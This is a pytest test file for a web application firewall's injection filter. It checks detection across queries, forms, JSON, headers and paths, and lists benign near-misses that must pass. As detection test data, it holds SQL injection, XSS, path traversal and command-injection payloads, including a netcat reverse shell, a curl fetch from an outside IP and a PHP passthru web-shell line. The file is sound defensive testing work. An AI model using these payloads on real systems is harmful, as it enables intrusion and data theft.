"""The injection filter's fast mode (:mod:`trustmesh.gateway.waf`): each category found in
each place a request carries it, decoded as the service reads it; double encoding; benign
strings that must pass; long values; and a finding that never holds the value."""

from __future__ import annotations

import json
from urllib.parse import quote, urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trustmesh.gateway.waf import WINDOW, Category, FastFilter, Finding

FILTER = FastFilter()

ATTACKS = [
    ("1' or '1'='1' --", Category.SQLI),
    ("x' UNION SELECT password FROM users--", Category.SQLI),
    ("<script>alert(document.cookie)</script>", Category.XSS),
    ('"><img src=x onerror=alert(1)>', Category.XSS),
    ("../../../../etc/shadow", Category.TRAVERSAL),
    ("..\\..\\boot.ini", Category.TRAVERSAL),
    ("/etc/passwd", Category.TRAVERSAL),
    ("file:///etc/hosts", Category.TRAVERSAL),
    ("report.pdf\x00.png", Category.TRAVERSAL),
    ("8.8.8.8; cat /etc/hostname", Category.CMDI),  # the command, not the file it reads
    ("8.8.8.8 && whoami", Category.CMDI),
    ("x | nc -e /bin/sh 10.0.0.1 4444", Category.CMDI),
    ("$(curl http://203.0.113.9/x)", Category.CMDI),
    ("`id`", Category.CMDI),
    ("a;cat${IFS}x", Category.CMDI),
]

BENIGN = [
    "O'Brien",
    "Arsenal canal",
    "Please select your size and colour",
    "Tom & Jerry; a cat-and-mouse classic",
    "Salt | pepper | cumin",
    "I'll be there at 5; see you!",
    "Café crème 🎉🚀 ok",
    "مرحبا بالعالم",
    "שלום עולם",
    "1/2 cup sugar, 3.5 oz",
    "alice.obrien@example.com",
    "https://shop.example/cb?next=%2Forders%2F7",
    "100%20 sure",
    "C:\\Users\\bob\\report.docx",
    "2024-05-01T12:34:56Z",
    "e.g. the value..., etc.",
]


def inspect(**parts: object) -> Finding | None:
    request: dict[str, object] = {
        "path": "/items",
        "query": b"",
        "headers": [],
        "content_type": None,
        "body": b"",
    }
    request.update(parts)
    return FILTER.inspect(**request)  # type: ignore[arg-type]


def in_query(value: str) -> Finding | None:
    return inspect(query=urlencode({"q": value}).encode())


def in_form(value: str) -> Finding | None:
    return inspect(
        content_type="application/x-www-form-urlencoded",
        body=urlencode({"comment": value}).encode(),
    )


def in_json(value: str) -> Finding | None:
    body = json.dumps({"items": [{"name": value}]}).encode()
    return inspect(content_type="application/json; charset=utf-8", body=body)


def in_pointers(value: str) -> Finding | None:
    return inspect(
        content_type="application/vnd.api+json",
        body=b"{}",
        json_strings=[("/items", "items"), ("/items/0/name", "name"), ("/items/0/name", value)],
    )


def in_header(value: str) -> Finding | None:
    return inspect(headers=[(b"X-Client-Note", value.encode("utf-8"))])


WHERE = {
    "query": (in_query, "query.q"),
    "form": (in_form, "form.comment"),
    "json": (in_json, "body/items/0/name"),
    "pointers": (in_pointers, "body/items/0/name"),
    "header": (in_header, "header.x-client-note"),
}


@pytest.mark.parametrize("where", sorted(WHERE))
@pytest.mark.parametrize(("value", "category"), ATTACKS)
def test_an_attack_is_found_where_it_is(where: str, value: str, category: Category) -> None:
    send, location = WHERE[where]
    found = send(value)
    assert found is not None
    assert (found.category, found.location) == (category, location)
    assert value not in repr(found)


@pytest.mark.parametrize("where", sorted(WHERE))
@pytest.mark.parametrize("value", BENIGN)
def test_benign_strings_pass(where: str, value: str) -> None:
    assert WHERE[where][0](value) is None


@pytest.mark.parametrize(
    ("segment", "category"),
    [
        ("1' or '1'='1", Category.SQLI),
        ("<svg onload=alert(1)>", Category.XSS),
        ("a;id;", Category.CMDI),
    ],
)
def test_a_path_segment_is_inspected_as_decoded(segment: str, category: Category) -> None:
    found = inspect(path=f"/items/{segment}/x")
    assert found == Finding(category, "path", found.check if found else "")
    assert inspect(path="/items/O'Brien/Arsenal canal") is None


def test_a_twice_encoded_attack_is_refused_as_double_encoding() -> None:
    once = quote("' or 1=1--", safe="")  # what a service decoding twice would read
    found = in_query(once)
    assert found == Finding(Category.SQLI, "query.q", "double-encoding")
    found = in_json("%252e%252e%252fetc%252fpasswd")
    assert found == Finding(Category.TRAVERSAL, "body/items/0/name", "double-encoding")
    assert in_query("https://a.example/cb?next=%2Fhome%3Fa%3D1") is None


def test_an_offending_name_is_left_out_of_the_location() -> None:
    name = "<script>alert(1)</script>"
    assert inspect(query=urlencode({name: "1"}).encode()) == Finding(
        Category.XSS, "query", "xss-script-tag"
    )
    body = json.dumps({"a": {name: 1}}).encode()
    found = inspect(content_type="application/json", body=body)
    assert found == Finding(Category.XSS, "body/a", "xss-script-tag")
    escaped = name.replace("/", "~1")
    for pointer in ("/a/" + escaped, "/a/" + name):  # RFC 6901 §4, or left unescaped
        found = inspect(content_type="application/json", body=b"{}", json_strings=[(pointer, name)])
        assert found == Finding(Category.XSS, "body/a", "xss-script-tag")


def test_a_long_name_is_cut_and_unprintable_characters_replaced() -> None:
    name = "n\r\n" + "x" * 200
    found = inspect(query=urlencode({name: "<script>alert(1)</script>"}).encode())
    assert found is not None
    assert found.location == "query.n??" + "x" * 61


def test_cookies_and_only_the_listed_headers_are_inspected() -> None:
    cookie = (b"cookie", b"theme=dark; pref=1' or '1'='1")
    assert inspect(headers=[cookie]) == Finding(
        Category.SQLI, "header.cookie.pref", "sqli-tautology"
    )
    attack = b"<script>alert(1)</script>"
    assert inspect(headers=[(b"accept-language", attack)]) is None
    assert inspect(headers=[(b"authorization", b"Bearer ' or 1=1--" + attack)]) is None
    assert FastFilter(inspect_headers=["accept-language"]).inspect(
        path="/", query=b"", headers=[(b"Accept-Language", attack)], content_type=None, body=b""
    ) == Finding(Category.XSS, "header.accept-language", "xss-script-tag")
    with pytest.raises(ValueError, match="authorization"):
        FastFilter(inspect_headers=["Authorization"])


def test_other_content_types_are_not_inspected_and_bad_json_is_inspected_whole() -> None:
    attack = b"<script>alert(1)</script>"
    assert inspect(content_type="text/plain", body=attack) is None
    assert inspect(content_type="application/json", body=b'{"a": ' + attack) == Finding(
        Category.XSS, "body", "xss-script-tag"
    )


@pytest.mark.parametrize(
    "body",
    [
        b'{"q": "1 UNION SELECT password FROM users--", "q": "tea"}',
        b'{"q": "tea", "q": "1 UNION SELECT password FROM users--"}',
        b'{"a": [{"q": "tea", "q": "1 UNION SELECT password FROM users--"}]}',
    ],
)
def test_a_key_given_twice_is_inspected_twice(body: bytes) -> None:
    """A last-wins parser keeps one value of a repeated key; a service may read the
    other (first-wins parsers exist): both are inspected."""
    found = inspect(content_type="application/json", body=body)
    assert found is not None
    assert (found.category, found.check) == (Category.SQLI, "sqli-union-select")


@pytest.mark.parametrize("at", [0, WINDOW - 10, 3 * WINDOW + 7, 10 * WINDOW - 30])
def test_an_attack_anywhere_in_a_long_value_is_found(at: int) -> None:
    filler = "lorem ipsum dolor sit amet " * (10 * WINDOW // 27 + 1)
    attack = " x' union select password from users-- "
    value = f"{filler[:at]}{attack}{filler[at:]}"
    found = in_json(value[: 10 * WINDOW])
    assert found is not None
    assert found.category is Category.SQLI
    assert in_json(filler) is None


headers_strategy = st.lists(
    st.tuples(st.sampled_from([b"user-agent", b"cookie", b"x-a", b"referer"]), st.binary()),
    max_size=4,
)


@settings(max_examples=300, deadline=None)
@given(
    query=st.binary(max_size=300),
    body=st.binary(max_size=300),
    headers=headers_strategy,
    content_type=st.sampled_from(
        [None, "application/json", "application/x-www-form-urlencoded", "a/b+json"]
    ),
    text=st.text(max_size=200),
)
def test_inspect_never_raises(
    query: bytes,
    body: bytes,
    headers: list[tuple[bytes, bytes]],
    content_type: str | None,
    text: str,
) -> None:
    for payload in (body, text.encode("utf-8", "surrogatepass")):
        found = FILTER.inspect(
            path="/" + quote(text, safe=""),
            query=query,
            headers=headers,
            content_type=content_type,
            body=payload,
        )
        assert found is None or isinstance(found.category, Category)
    FILTER.inspect(
        path="/",
        query=b"",
        headers=[],
        content_type="application/json",
        body=b"",
        json_strings=[(text, text)],
    )


# -- the generic rules, each with an example of its own and benign near-misses ---------
RULES = [
    ("0 UNION ALL SELECT name, pass FROM accounts", Category.SQLI, "sqli-union-select"),
    ("7 union/**/distinct/**/select 1", Category.SQLI, "sqli-union-select"),
    ("3) AND SLEEP(4)", Category.SQLI, "sqli-time-delay"),
    ("1 and benchmark(9000000,sha1(2))", Category.SQLI, "sqli-time-delay"),
    ("5'; WAITFOR DELAY '0:0:9'", Category.SQLI, "sqli-time-delay"),
    ("9 and 1=pg_sleep(7)", Category.SQLI, "sqli-time-delay"),
    ("1 AND 2 > 1", Category.SQLI, "sqli-tautology"),
    ("zz' OR 'k'='k", Category.SQLI, "sqli-tautology"),
    ("x' || 'q'='q", Category.SQLI, "sqli-tautology"),
    ("bob')--", Category.SQLI, "sqli-quote-comment"),
    ("bob' #", Category.SQLI, "sqli-quote-comment"),
    ("2 ORDER BY 12--", Category.SQLI, "sqli-order-by-comment"),
    ("1 SEL/**/ECT 2", Category.SQLI, "sqli-inline-comment"),
    ("1/*!12345UNION*/", Category.SQLI, "sqli-inline-comment"),
    ("x; DROP TABLE carts", Category.SQLI, "sqli-stacked-query"),
    ("x; exec master..xp_cmdshell 'dir'", Category.SQLI, "sqli-system-object"),
    ("x' into outfile '/var/www/s.php", Category.SQLI, "sqli-system-object"),
    ("1 AND (SELECT @@hostname)", Category.SQLI, "sqli-statement"),
    ("CREATE TABLE t (c text)", Category.SQLI, "sqli-statement"),
    ("INSERT INTO audit VALUES (1)", Category.SQLI, "sqli-statement"),
    ("SELECT * FROM orders", Category.SQLI, "sqli-statement"),
    ("x' AND 1 IN (SELECT 1)", Category.SQLI, "libinjection-sqli"),
    ("<ScRiPt src=//evil.example/a.js></script>", Category.XSS, "xss-script-tag"),
    ('<div data-x="1" onpointerenter=go()>', Category.XSS, "xss-event-handler"),
    ("<iframe src=//evil.example>", Category.XSS, "xss-active-tag"),
    ("jAvAsCrIpT:fetch(1)", Category.XSS, "xss-script-url"),
    ("data:text/html,<b>x</b>", Category.XSS, "xss-script-url"),
    ('<x srcdoc="&lt;b&gt;">', Category.XSS, "xss-attribute"),
    ("width:expression(go())", Category.XSS, "xss-attribute"),
    ('";prompt`7`;"', Category.XSS, "xss-js"),
    ("x=String.fromCharCode(72,73)", Category.XSS, "xss-js"),
    ("+ADw-b+AD4-", Category.XSS, "xss-utf7"),
    ("jav&#x09;ascript:go()", Category.XSS, "xss-script-url"),  # a browser drops the tab
    ("&lt;svg onload=go()&gt;", Category.XSS, "libinjection-xss"),  # references decoded
    ("`/*`<svg/onload=go()>", Category.XSS, "xss-event-handler"),  # not cmdi: XSS first
    ("%uff0e%uff0e%u2215app%u2215config.yml", Category.TRAVERSAL, "traversal-dotdot-unicode"),
    ("..%uf025secret", Category.TRAVERSAL, "traversal-dotdot-unicode"),
    ("0x2e0x2e0x2fsecret", Category.TRAVERSAL, "traversal-dotdot"),  # letters and digits only
    ('<?php passthru($_GET["c"]); ?>', Category.CMDI, "cmdi-code-exec"),
    ("os.system('id')", Category.CMDI, "cmdi-code-exec"),
    ('<!--#exec cmd="ls" -->', Category.CMDI, "cmdi-ssi"),
    ("x & net user eve P4ss /add", Category.CMDI, "cmdi-net-admin"),
    ("run:/bin/id", Category.CMDI, "cmdi-binary-path"),
]

NEAR_MISSES = [
    "select your size",
    "Tom & Jerry; the sequel",
    "Tom & Jerry; select the sequel",
    "5 > 3",
    "email me at a@b.c",
    "on sale = yes",
    "javascript tutorial",
    "JavaScript: the good parts",
    "drop-down menu",
    "union station",
    "Union Jack, 1 select",
    "O'Reilly's -- notes",
    'say "hi" -- then go',
    "we're #1",
    "Order by phone -- or email",
    "Prompt(s) and confirm(ed) orders",
    "regular expression(s)",
    "alert: the bell (12) is broken",
    "eval period: 3 months",
    "Sleep (8 hours) or more",
    "40% wool and 60% cotton",  # libinjection: 1&1, too short to trust
    'the "AND" gate',  # libinjection: sos, too short to trust
    "Tom or Jerry = cartoon",
    "x = y or z",
    "ranks: 1 or 2",
    "select one from the list",
    "(select all that apply)",
    "create table settings",
    "the system (of record)",
    "a <b>bold</b> claim",
    "document.pdf",
]


@pytest.mark.parametrize(("value", "category", "check"), RULES)
def test_each_generic_rule_finds_its_shape(value: str, category: Category, check: str) -> None:
    assert in_json(value) == Finding(category, "body/items/0/name", check)
    assert in_query(value) == Finding(category, "query.q", check)


@pytest.mark.parametrize("value", NEAR_MISSES)
def test_benign_near_misses_pass(value: str) -> None:
    assert in_json(value) is None
    assert in_query(value) is None
